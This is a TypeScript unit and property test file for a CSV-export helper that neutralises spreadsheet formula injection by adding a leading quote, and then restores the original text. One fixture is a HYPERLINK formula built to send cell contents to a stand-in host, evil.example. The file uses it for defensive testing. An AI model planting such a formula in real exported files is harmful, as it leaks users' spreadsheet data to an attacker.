import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../../src/domain/catalog-csv/spreadsheet-cells.ts';

/** Texts that start as formulas, quotes, quoted formulas or anything else. */
const starts = fc.constantFrom('', "'", "''", "'=", '=', '+', '-', '@', '\t', '\r', '\n', '\0', 'a');

describe('neutraliseCell', () => {
  it('puts a quote before every cell a spreadsheet would run as a formula', () => {
    for (const formula of [
      '=HYPERLINK("http://evil.example/?"&A2,"x")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1',
      '\r=1',
      '\n=1',
      '\0=1',
    ])
      expect(neutraliseCell(formula)).toBe(`'${formula}`);
  });

  it('leaves ordinary text as it is', () => {
    for (const text of ['', 'LeBron James 2003 Topps', "'quoted", '12.50', 'a=b', ' =not first'])
      expect(neutraliseCell(text)).toBe(text);
  });

  it('adds one more quote to text that already looks neutralised, so it reads back the same', () => {
    expect(neutraliseCell("'=1")).toBe("''=1");
    expect(restoreCell("''=1")).toBe("'=1");
  });

  it('round-trips any text through restoreCell', () => {
    fc.assert(
      fc.property(
        starts.chain((start) => fc.string().map((rest) => start + rest)),
        (text) => {
          expect(restoreCell(neutraliseCell(text))).toBe(text);
          expect(/^[=+\-@\t\r\n\0]/.test(neutraliseCell(text))).toBe(false);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
